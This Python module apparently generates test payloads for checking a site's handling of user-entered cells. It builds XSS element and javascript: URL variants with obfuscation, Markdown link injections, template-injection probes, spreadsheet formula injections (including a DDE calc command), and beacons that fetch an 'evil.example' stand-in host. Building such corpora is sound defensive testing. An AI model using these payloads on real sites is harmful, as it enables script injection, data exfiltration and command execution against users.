"""What an attacker would write into a cell: HTML, Markdown, addresses, template code, formulas; combined.

Each of `scripts()` calls `top.pwn(N)` where it runs, N being its own number, and each of `beacons()` asks for an
address at EVIL. `careless` is what a site that trusts cells would write for it.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import count, product

import markdown

EVIL = "https://evil.example"
CALL = "top.pwn({n})"
PRODUCT = "1337"
"""What 7*191 is: a page that has it has run a template out of a cell."""


@dataclass(frozen=True)
class Payload:
    """A cell, and the HTML that a careless site makes of it."""

    number: int
    text: str
    careless: str


_ELEMENTS = (
    "<script>{js}</script>",
    "<script src=data:text/javascript,{js}></script>",
    "<img src=x onerror={js}>",
    "<svg onload={js}></svg>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s></animate></svg>",
    "<svg><set onbegin={js} attributeName=x dur=1s></set></svg>",
    "<svg><image href=x onerror={js}></image></svg>",
    "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>",
    "<math><mtext><img src=x onerror={js}></mtext></math>",
    "<math href=javascript:{js}>x</math>",
    "<iframe onload={js}></iframe>",
    "<iframe srcdoc='<script>{js}</script>'></iframe>",
    "<iframe src=javascript:{js}></iframe>",
    "<body onload={js}>",
    "<video src=x onerror={js}></video>",
    "<video><source src=x onerror={js}></video>",
    "<audio src=x onerror={js}></audio>",
    "<object data=x onerror={js}></object>",
    "<embed src=javascript:{js}>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}></select>",
    "<a tabindex=1 id=x onfocus={js} autofocus>x</a>",
    "<details open ontoggle={js}>x</details>",
    "<link rel=stylesheet href=x onerror={js}>",
    "<style onload={js}></style>",
    "<form action=javascript:{js}><button autofocus onfocus={js}>x</button></form>",
    "<div onmouseover={js}>x</div>",
    "<b style=animation:x onanimationstart={js}>x</b>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<base href='javascript:/a/-{js}//'>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'></noscript>",
    "<template><img src=x onerror={js}></template>",
)
_DISGUISES: tuple[Callable[[str], str], ...] = (
    lambda html: html,
    lambda html: (
        html.replace(" on", "\n/oN").replace("<s", "<S").replace("<i", "<I").replace("javascript:", "JaVa\tScript:")
    ),
    lambda html: html.replace("top.pwn", "&#116;op&#x2E;pwn").replace("javascript:", "&#x6A;avascript&colon;"),
)
_PLACES = (
    "{html}",
    "\"'></title></textarea></style></script>-->{html}",
    "Texto\n\n<div markdown=1>\n\n* {html}\n\n</div>",
)
_SCHEMES = (
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    " \tjavascript:{js}",
    "java\nscript:{js}",
    "javascript&colon;{js}",
    "&#106;avascript:{js}",
    "javascript://%0a{js}",
    "vbscript:{js}",
    "data:text/html,<script>{js}</script>",
    "feed:javascript:{js}",
)
_LINKS = (
    "[x]({url})",
    "[x](<{url}>)",
    "<{url}>",
    "[x][r]\n\n[r]: {url}",
    "![x]({url})",
    '<a href="{url}">x</a>',
    '<svg><a xlink:href="{url}"><text>x</text></a></svg>',
    '[x](https://example.org "a" onclick="{js}")',
)
_TEMPLATES = (
    "{{7*191}}",
    "{% if 1 %}{{7*191}}{% endif %}",
    "${7*191}",
    "<%= 7*191 %>",
    "#{7*191}",
    '#eval("7*191")',
    "#(7*191)",
    "$#(7*191)$",
    "{{config.__class__.__init__.__globals__}}",
    "@@avance-body@@",
    "@@avance-title@@",
    "%(company)s {name} %s",
)
_BIDI = ("\u202egnp.exe", "\u2066\u202d", "\u200f\u202b", "e\u0301\u0489" * 5)
_BEACONS = (
    "<img src={url}>",
    "<img srcset='{url} 2x'>",
    "![x]({url})",
    "![x][r]\n\n[r]: {url}",
    "<style>@import '{url}';</style>",
    "<p style='background:url({url})'>x</p>",
    "<link rel=stylesheet href={url}>",
    "<link rel=preload as=image href={url}>",
    "<link rel=prefetch href={url}>",
    "<link rel=dns-prefetch href={url}>",
    "<link rel=preconnect href={url}>",
    "<a id=x href=# ping={url}>x</a>",
    "<form id=x action={url}></form><script>document.forms[0].submit()</script>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<script>fetch('{url}')</script>",
    "<script>navigator.sendBeacon('{url}')</script>",
    "<script src={url}></script>",
    "<iframe src={url}></iframe>",
    "<video poster={url}></video>",
    "<audio src={url} preload=auto></audio>",
    "<object data={url}></object>",
    "<embed src={url}>",
    "<input type=image src={url}>",
    "<table background={url}><tr><td>x</td></tr></table>",
    "<svg><image href={url}></image></svg>",
    "<svg><use href={url}#x></use></svg>",
    "<base href={url}/><img src=a>",
)
FORMULAS = tuple(
    before + start + rest
    for before, start, rest in product(
        ("", " ", "\t", "\r\n", "x;", "x,", '"'),
        ("=", "+", "-", "@", "＝"),
        ("1+1", "cmd|' /C calc'!A0", f'HYPERLINK("{EVIL}","x")', f'IMPORTXML("{EVIL}","//a")', "SUM(A1:A9)*1"),
    )
)


def scripts() -> Iterator[Payload]:
    """Yield what would run, numbered from 0."""
    numbers = count()
    for place, element, disguise in product(_PLACES, _ELEMENTS, _DISGUISES):
        yield _payload(next(numbers), place.replace("{html}", disguise(element)))
    for link, scheme in product(_LINKS, _SCHEMES):
        yield _payload(next(numbers), link.replace("{url}", scheme))
    for text in (*_TEMPLATES, *_BIDI):
        yield _payload(next(numbers), text + " {js}")


def beacons(start: int) -> Iterator[Payload]:
    """Yield what would ask for `EVIL/b<number>`, numbered from *start*."""
    for number, text in enumerate(_BEACONS, start):
        written = text.replace("{url}", f"{EVIL}/b{number}")
        yield Payload(number, written, _careless(written))


def _payload(number: int, text: str) -> Payload:
    written = text.replace("{js}", CALL.format(n=number))
    return Payload(number, written, _careless(written))


def _careless(text: str) -> str:
    return text if "<" in text and "](" not in text else markdown.markdown(text)
